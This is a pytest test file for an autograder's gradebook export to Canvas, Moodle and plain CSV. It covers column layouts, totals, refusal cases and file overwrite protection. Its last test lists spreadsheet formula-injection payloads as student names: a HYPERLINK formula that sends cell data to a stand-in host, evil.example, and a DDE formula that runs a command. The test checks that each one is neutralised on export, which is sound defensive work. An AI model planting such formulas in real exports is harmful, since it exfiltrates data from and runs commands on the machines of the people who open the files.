"""``python -m autograder export``: Canvas's and Moodle's import formats and a plain one, one row per student."""

import csv
import dataclasses
import io
from datetime import datetime

import pytest

from autograder import catalogue, course
from autograder.__main__ import main
from autograder.lms.export import MOODLE_TIME, ExportError, export
from autograder.lms.roster import read_roster
from autograder.outputs import tables
from autograder.outputs.totals import written_points
from autograder.points import load_points
from autograder.results import BatchResult, Row, StudentResult

WRITTEN = written_points()


def student(student_id, passed_groups, written=None, name="", lms_id=""):
    """A graded student who passed every test of ``passed_groups`` (all groups: "all")."""
    rows = []
    for name_, worth in load_points().items():
        group = course.group_of(name_)
        passed = passed_groups == "all" or group in passed_groups
        rows.append(Row(catalogue.Verdict(name_, group, False, "", "passed" if passed else "failed"),
                        worth if passed else 0.0, worth))
    return StudentResult(student_id, 0, rows, written=written, name=name, lms_id=lms_id)


@pytest.fixture
def graded(tmp_path):
    """An output folder of ``grade``: alice full marks (written answers graded, 20), bob the losses only
    (written answers not graded yet)."""
    out = tmp_path / "graded"
    out.mkdir()
    students = [student("alice", "all", written=20.0, name="Alice Smith", lms_id="1001"),
                student("bob", {"losses.svm_loss_naive"}, name="Bob Jones", lms_id="1002")]
    tables.write(BatchResult(students, out, "bubblewrap", "", 0, False, timeout=20.0, import_timeout=10.0), out)
    return out


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("student_id,lms_id,name,email,section,sis_user_id,sis_login_id\n"
                    "alice,1001,\"Smith, Alice\",alice@example.edu,A1,S001,asmith\n"
                    "bob,1002,\"Jones, Bob\",bob@example.edu,A1,S002,bjones\n"
                    "carol,1003,\"Wu, Carol\",carol@example.edu,A2,S003,cwu\n")
    return read_roster(path)


def rows_of(path):
    return list(csv.reader(io.StringIO(path.read_text())))


def test_the_canvas_import_file_has_canvas_columns_points_possible_and_each_students_total(tmp_path, graded, roster):
    svm = sum(worth for name, worth in load_points().items() if name.startswith("losses.svm_loss_naive."))
    out = tmp_path / "canvas.csv"
    count, absent = export(graded, "canvas", out, roster, part="code")
    assert (count, absent) == (2, ["carol"])
    assert rows_of(out) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", course.ASSIGNMENT],
        ["Points Possible", "", "", "", "", "100"],
        ["Smith, Alice", "1001", "S001", "asmith", "A1", "100"],
        ["Jones, Bob", "1002", "S002", "bjones", "A1", f"{svm:g}"],
    ]


def test_the_moodle_grading_worksheet_names_participants_as_moodle_reads_them(tmp_path, graded):
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code")
    header, alice, bob = rows_of(out)
    assert header == ["Identifier", "Full name", "Email address", "Grade", "Maximum Grade", "Last modified (grade)"]
    assert alice[:5] == ["Participant 1001", "Alice Smith", "", "100", "100"]
    assert bob[0] == "Participant 1002"
    assert abs((datetime.strptime(alice[5], MOODLE_TIME) - datetime.now()).total_seconds()) < 120


def test_a_total_is_exported_only_once_every_written_answer_is_graded(tmp_path, graded):
    with pytest.raises(ExportError, match=r"The written answers of 1 student is not graded yet \(bob\).*--part code"):
        export(graded, "canvas", tmp_path / "canvas.csv")
    assert not (tmp_path / "canvas.csv").exists()
    export(graded, "plain", tmp_path / "plain.csv")
    header, alice, bob = rows_of(tmp_path / "plain.csv")
    assert dict(zip(header, alice)) == {
        "student_id": "alice", "name": "Alice Smith", "email": "", "lms_id": "1001", "code": "100", "code_max": "100",
        "written": "20", "written_max": f"{WRITTEN:g}", "total": "120", "total_max": f"{100 + WRITTEN:g}"}
    assert dict(zip(header, bob))["written"] == "" and dict(zip(header, bob))["total"] == ""


@pytest.mark.parametrize("form, lacking", [("canvas", "a Canvas user id"), ("moodle", "a Moodle participant id")])
def test_a_student_the_lms_could_not_find_is_named_and_nothing_written(tmp_path, form, lacking):
    out = tmp_path / "graded"
    out.mkdir()
    tables.write(BatchResult([student("dan", "all", written=22.0)], out, "bubblewrap", "", 0, False, timeout=20.0,
                             import_timeout=10.0), out)
    with pytest.raises(ExportError, match=f"1 student has no {lacking}.*: dan. Give --roster"):
        export(out, form, tmp_path / "grades.csv")
    assert not (tmp_path / "grades.csv").exists()


def test_the_command_refuses_an_existing_file_and_a_folder_that_was_not_graded(tmp_path, graded, capsys):
    (tmp_path / "grades.csv").write_text("keep")
    assert main(["export", str(graded), "--format", "plain", "--out", str(tmp_path / "grades.csv"),
                 "--gradebook", "none"]) == 2
    assert capsys.readouterr().err.startswith(f"export refused: --out {tmp_path / 'grades.csv'} exists: pass --force")
    assert (tmp_path / "grades.csv").read_text() == "keep"
    assert main(["export", str(tmp_path), "--format", "plain", "--out", str(tmp_path / "x.csv"),
                 "--gradebook", "none"]) == 2
    assert f"{tmp_path} has no totals.csv" in capsys.readouterr().err
    assert main(["export", str(graded), "--format", "plain", "--out", str(tmp_path / "grades.csv"), "--force",
                 "--gradebook", "none"]) == 0
    assert capsys.readouterr().out == f"wrote 2 students' totals to {tmp_path / 'grades.csv'} (plain)\n"


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "'=quoted"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_students_text_never_reaches_a_spreadsheet_as_a_formula_and_reads_back_unchanged(tmp_path, formula):
    out = tmp_path / "graded"
    out.mkdir()
    chosen = student(formula, "all", written=20.0, name=formula, lms_id="1001")
    failed = dataclasses.replace(chosen.rows[0].verdict, status="error", message=formula)
    chosen.rows[0] = Row(failed, 0.0, chosen.rows[0].max_score)
    tables.write(BatchResult([chosen], out, "bubblewrap", "", 0, False, timeout=20.0, import_timeout=10.0), out)
    export(out, "plain", tmp_path / "plain.csv")
    export(out, "moodle", tmp_path / "moodle.csv")
    cells = [cell for name in ("grades.csv", "totals.csv", "seeds.csv") for row in rows_of(out / name)[1:]
             for cell in row]
    cells += [cell for name in ("plain.csv", "moodle.csv") for row in rows_of(tmp_path / name)[1:] for cell in row]
    assert [cell for cell in cells if formula in cell and not cell.startswith("'")] == []
    plain = rows_of(tmp_path / "plain.csv")[1]
    assert plain[:2] == ["'" + formula, "'" + formula]  # one quote more, which a spreadsheet does not show
